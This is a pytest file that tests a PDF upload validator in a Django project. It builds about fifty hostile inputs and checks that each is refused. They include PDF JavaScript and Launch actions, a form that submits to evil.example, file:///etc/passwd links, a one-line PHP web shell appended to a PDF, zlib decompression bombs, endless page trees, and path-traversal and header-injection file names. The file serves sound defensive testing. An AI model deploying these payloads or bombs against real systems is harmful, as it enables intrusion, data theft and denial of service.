"""Fifty files that mean harm, or are no PDF: each is refused, or is harmless by the time it is kept."""

from __future__ import annotations

import io
import subprocess
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
import pytest
from pytest_django.fixtures import Settings

from setwise.library.articles import pdfs
from setwise.library.articles.pdfs import Refused, checked, plain_name
from tests.library.many_pdfs import Many
from tests.library.pdf_making import PAGE, TEXT, flate, made, plain, stream

ZIP = io.BytesIO()
with zipfile.ZipFile(ZIP, "w") as made_zip:
    made_zip.writestr("evil.exe", "MZ")
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def saved(change: Callable[[pikepdf.Pdf], object], **how: object) -> bytes:
    """A PDF that a library wrote, with something done to it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain())) as pdf:
        change(pdf)
        pdf.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")


def script_in_object_stream() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        )

    return saved(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked(**permissions: bool) -> bytes:
    user = "" if permissions else "secret"
    allow = pikepdf.Permissions(**permissions)
    return saved(lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user=user, allow=allow))


def annotation(body: bytes) -> bytes:
    return made(page=b"/Annots[5 0 R]", more={5: body})


def action(body: bytes) -> bytes:
    return annotation(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%b>>>>" % body)


def pages_without_end() -> bytes:
    """Each of thirty nodes has the next one twice: a thousand million pages in two kilobytes."""
    more = {
        n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (n + 1, n + 1) for n in range(5, 35)
    }
    more[35] = PAGE % b""
    return made(pages=b"<</Type/Pages/Kids[5 0 R]/Count 1>>", more=more)


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 5 + count))
    return made(
        pages=b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count),
        more=dict.fromkeys(range(5, 5 + count), PAGE % b""),
    )


def folded(block: bytes, times: int, first: bytes = b"") -> bytes:
    """What folding `first` and then the block so many times gives, in the time of folding it once."""
    begins, again = zlib.compressobj(9), zlib.compressobj(9, wbits=-15)
    head = begins.compress(first) + begins.flush(zlib.Z_FULL_FLUSH)
    piece = again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)
    checked_by = zlib.adler32(first)
    for _ in range(times):
        checked_by = zlib.adler32(block, checked_by)
    end = zlib.compressobj(9, wbits=-15).flush()
    return head + piece * times + end + checked_by.to_bytes(4, "big")


def object_stream_bomb() -> bytes:
    """Objects that lie in a stream which unfolds to more than there is memory for."""
    body = folded(b" " * 10_000_000, 45, b"6 0 <</A 1>>")
    return made(more={5: stream(body, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")})


def four_hundred_million() -> bytes:
    return made(contents=stream(folded(b"\0" * 10_000_000, 40), b"/Filter/FlateDecode"))


def folded_twice() -> bytes:
    body = zlib.compress(folded(b"\0" * 10_000_000, 5), 9)
    return made(contents=stream(body, b"/Filter[/FlateDecode/FlateDecode]"))


def deep() -> bytes:
    return made(more={5: b"[" * 20_000 + b"]" * 20_000})


GOOD = plain()

REFUSED: dict[str, Callable[[], bytes]] = {
    # Of another kind
    "nothing": lambda: b"",
    "a page of the web": lambda: b"<!doctype html><script>alert(1)</script>%%EOF",
    "a drawing with a script": lambda: SVG,
    "a drawing that says it is a PDF": lambda: SVG + b"\n%PDF-1.7\n%%EOF",
    "a program": lambda: b"MZ\x90\0" + GOOD,
    "a script of a shell": lambda: b"#!/bin/sh\n" + GOOD,
    "an archive": ZIP.getvalue,
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "an older Word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100,
    "only zeros": lambda: b"\0" * 1_000,
    "a text": lambda: "Wombats".encode("utf-16"),
    "only the first line of a PDF": lambda: b"%PDF-1.7\n",
    "only the first and the last": lambda: b"%PDF-1.7\n%%EOF",
    "a version of no year": lambda: made(version=b"9.9"),
    # Two things at once
    "an archive behind it": lambda: GOOD + ZIP.getvalue(),
    "an archive in front of it": lambda: ZIP.getvalue() + GOOD,
    "an archive inside, to its very end": lambda: _with_archive_to_the_end(),
    "a page of the web in front of it": lambda: b"<html><!--" + GOOD,
    "a page of the web behind it": lambda: GOOD + b"<script>alert(1)</script>",
    "a program of PHP behind it": lambda: GOOD + b"<?php system($_GET['c']); ?>",
    "lines before the first": lambda: b"\n\n" + GOOD,
    # Incomplete
    "cut in the middle": lambda: GOOD[: len(GOOD) // 2],
    "without its end": lambda: GOOD.replace(b"%%EOF", b""),
    "with a table of contents that lies": lambda: GOOD.replace(b"startxref\n", b"startxref\n9"),
    "zeros in the middle": lambda: GOOD[:60] + b"\0" * 100 + GOOD[160:],
    "without any pages": lambda: made(pages=b"<</Type/Pages/Kids[]/Count 0>>"),
    "without a root": lambda: GOOD.replace(b"/Root 1 0 R", b"/Rook 1 0 R"),
    # Locked
    "with a password": lambda: locked(),
    "with rights": lambda: locked(extract=False),
    # What begins by itself
    "a script as it opens": lambda: made(root=b"/OpenAction 5 0 R", more={5: SCRIPT}),
    "the same in other letters": lambda: made(
        root=b"/OpenAction 5 0 R", more={5: b"<</S/J#61vaScript/J#53(app.alert(1))>>"}
    ),
    "the same folded away": script_in_object_stream,
    "a script among its names": lambda: made(
        root=b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>", more={5: SCRIPT}
    ),
    "a page of the web as it opens": lambda: made(
        root=b"/OpenAction<</S/URI/URI(https://evil.example)>>"
    ),
    "something as a page opens": lambda: made(page=b"/AA<</O<</S/Named/N/Print>>>>"),
    "a program to start": lambda: action(b"/S/Launch/F(cmd.exe)"),
    "a form that sends": lambda: action(b"/S/SubmitForm/F(https://evil.example)"),
    "a form that takes in": lambda: action(b"/S/ImportData/F(x.fdf)"),
    "a way to another file": lambda: action(b"/S/GoToR/F(other.pdf)"),
    "a link that is a script": lambda: action(b"/S/URI/URI(JavaScript:alert(1))"),
    "a link to a file of the machine": lambda: action(b"/S/URI/URI(file:///etc/passwd)"),
    "an old form with scripts": lambda: made(
        root=b"/AcroForm<</XFA 5 0 R/Fields[]>>", more={5: stream(b"<xdp/>")}
    ),
    "a film": lambda: annotation(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"),
    # Other files in it
    "a file in it": lambda: saved(attach),
    "a file pinned to a page": lambda: annotation(
        b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)>>>>"
    ),
    "words that lie in another file": lambda: made(
        contents=stream(TEXT, b"/F<</Type/Filespec/F(/etc/passwd)>>")
    ),
    # Too much
    "folded twice": folded_twice,
    "unfolding to four hundred million": four_hundred_million,
    "objects that unfold without end": object_stream_bomb,
    "pages without end": pages_without_end,
    "too many pages": lambda: many_pages(501),
    "lists in lists in lists": deep,
    "longer than is taken": lambda: GOOD + b" " * 5_000_000,
}


def _with_archive_to_the_end() -> bytes:
    """An archive in the last object; the end of the PDF is a remark in the archive."""
    pdf = made(more={5: stream(b"ARCHIVE")})
    begins = pdf.index(b"ARCHIVE")
    tail = pdf[begins + len(b"ARCHIVE") :]
    raw = ZIP.getvalue()
    return pdf[:begins] + raw[:-2] + len(tail).to_bytes(2, "little") + tail


@pytest.fixture(scope="module")
def many() -> Iterator[Many]:
    many = Many()
    yield many
    many.closes()


@pytest.fixture
def quickly(many: Many, monkeypatch: pytest.MonkeyPatch) -> None:
    """The files are read by one process that divides, not by one that starts for each."""
    monkeypatch.setattr(pdfs, "ask", many.ask)


def test_there_are_fifty() -> None:
    assert len(REFUSED) >= 50


@pytest.mark.usefixtures("quickly")
@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_and_that_does_not_take_long(name: str) -> None:
    content, begun = REFUSED[name](), time.process_time()
    with pytest.raises(Refused) as why:
        checked("article.pdf", content)
    assert str(why.value)
    # In this process nothing is unfolded: whatever it takes is another's, which has a limit.
    assert time.process_time() - begun < 2


GOOD_ONES: dict[str, Callable[[], bytes]] = {
    "plain": plain,
    "that opens at a page": lambda: made(root=b"/OpenAction[3 0 R/Fit]"),
    "that goes to a page as it opens": lambda: made(root=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "with a link to the web": lambda: action(b"/S/URI/URI(https://example.org)"),
    "with folded words": lambda: made(contents=flate(TEXT * 1_000)),
    "with folded objects": lambda: saved(
        lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "of two hundred pages": lambda: many_pages(200),
}


@pytest.mark.usefixtures("quickly")
@pytest.mark.parametrize("name", GOOD_ONES)
def test_a_good_one_is_kept_as_it_came(name: str) -> None:
    content = GOOD_ONES[name]()
    kept = checked("Article of 2021.pdf", content)
    assert (kept.name, kept.content) == ("Article of 2021.pdf", content)
    assert kept.pages == (200 if "two hundred" in name else 1)


@pytest.mark.parametrize(
    ("given", "plain_one"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Windows\\evil.exe", "evil-exe.pdf"),
        ("article.pdf.exe", "article-pdf-exe.pdf"),
        ("article.php.pdf", "article-php.pdf"),
        ("nul\0byte.pdf", "nul-byte.pdf"),
        ('a"; filename="evil.html', "a- filename-evil-html.pdf"),
        ("line\r\nSet-Cookie: a=b.pdf", "line-Set-Cookie- a-b.pdf"),
        ("\u202efdp.exe", "fdp-exe.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("", "article.pdf"),
        ("x" * 500 + ".PDF", "x" * 100 + ".pdf"),
        ("Pflege im Überblick.pdf", "Pflege im Überblick.pdf"),
    ],
)
def test_a_name_is_a_name_and_nothing_else(given: str, plain_one: str) -> None:
    assert plain_name(given) == plain_one


@pytest.mark.parametrize("name", ["objects that unfold without end", "pages without end"])
def test_the_real_process_says_the_same(name: str, many: Many) -> None:
    content = REFUSED[name]()
    assert pdfs.ask(content) == many.ask(content)


def test_whoever_reads_it_knows_nothing_and_may_little(
    monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> None:
    seen: dict[str, object] = {}
    real: Callable[..., object] = subprocess.run

    def watched(command: list[str], **how: object) -> object:
        seen.update(how)
        return real(command, **how)

    monkeypatch.setattr(subprocess, "run", watched)
    checked("a.pdf", GOOD)
    assert (seen["env"], seen["cwd"]) == ({}, "/")
    assert isinstance(seen["timeout"], int)
    settings.UPLOAD_LIMIT = len(GOOD) - 1
    with pytest.raises(Refused, match="too large"):
        checked("a.pdf", GOOD)
